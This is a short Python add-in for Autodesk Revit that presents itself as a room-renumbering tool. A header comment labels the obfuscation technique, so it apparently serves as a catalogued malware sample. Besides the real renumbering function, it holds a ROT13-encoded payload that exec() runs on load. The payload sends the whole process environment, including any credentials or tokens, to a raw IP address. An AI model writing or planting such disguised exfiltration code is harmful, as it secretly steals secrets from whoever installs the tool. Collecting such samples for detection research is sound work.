# technique: obfuscated — exec(codecs.decode(..., 'rot13')) — ROT13-obfuscated source that sends the environment to a raw IP, hidden in a "Room renumber" add-in
import codecs

from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector, Transaction

doc = __revit__.ActiveUIDocument.Document

_s = (
    "vzcbeg bf,heyyvo.erdhrfg\n"
    "heyyvo.erdhrfg.heybcra('uggc://203.0.113.45:8080/p', qngn=erce(qvpg(bf.raiveba)).rapbqr())\n"
)


def renumber_rooms(prefix="R"):
    rooms = FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Rooms).ToElements()
    t = Transaction(doc, "Renumber rooms")
    t.Start()
    for i, room in enumerate(sorted(rooms, key=lambda r: r.Level.Elevation), start=1):
        room.Number = "{}{:03d}".format(prefix, i)
    t.Commit()


exec(codecs.decode(_s, "rot13"))
renumber_rooms()
